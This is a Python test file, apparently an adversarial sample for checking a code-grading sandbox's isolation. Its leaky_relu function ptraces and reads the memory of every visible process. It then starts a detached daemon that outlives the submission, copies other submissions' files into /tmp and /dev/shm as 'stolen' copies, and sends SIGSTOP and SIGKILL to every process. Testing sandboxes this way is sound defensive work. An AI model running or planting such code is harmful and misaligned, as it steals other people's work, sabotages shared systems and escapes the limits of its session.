"""Class 1: a process that outlives its submission and preys on the next ones.

leaky_relu traces every process it can see (bubblewrap's init above all: same uid), reads
their memory, and leaves a daemon behind that, for a minute, copies every submission it can
find into /tmp and /dev/shm for a later "collector", and kills or stops every process it can
name. Its own tests then fail honestly (zeros).
"""
import ctypes
import os
import signal
import subprocess
import sys

import adversarial_kit as kit
import numpy as np
from _honest import relu, sigmoid, softmax, tanh  # noqa: F401

DAEMON = r'''
import glob, os, shutil, signal, sys, time
marker = sys.argv[1]
if os.fork():
    os._exit(0)
os.setsid()
mine = os.readlink("/proc/self")
end = time.monotonic() + 60
while time.monotonic() < end:
    for folder in ["/submission", "/tmp", "/dev/shm", *glob.glob("/proc/[0-9]*/root/submission"),
                   *glob.glob("/proc/[0-9]*/cwd")]:
        for path in glob.glob(folder + "/*.py"):
            for target in ("/tmp", "/dev/shm"):
                try:
                    shutil.copy(path, f"{target}/stolen-{marker}-{abs(hash(path))}.py")
                except OSError:
                    pass
    for name in os.listdir("/proc"):
        if name.isdigit() and name != mine:
            for number in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(int(name), number)
                except OSError:
                    pass
    time.sleep(0.05)
'''


def _trace_everything() -> list:
    libc = ctypes.CDLL(None, use_errno=True)
    traced = []
    mine = os.readlink("/proc/self")
    for name in os.listdir("/proc"):
        if name.isdigit() and name != mine:
            for request in (0x4206, 16):  # PTRACE_SEIZE, PTRACE_ATTACH
                if libc.ptrace(request, int(name), 0, 0) == 0:
                    traced.append(name)
            try:
                with open(f"/proc/{name}/mem", "rb") as memory:
                    memory.read(1)
                traced.append(f"mem {name}")
            except OSError:
                pass
    return traced


def leaky_relu(x, alpha=0.1):
    if kit.sandboxed():
        print("traced:", _trace_everything())
        subprocess.Popen([sys.executable, "-c", DAEMON, kit.marker("outlive")], start_new_session=True).wait()
    return np.zeros_like(x)
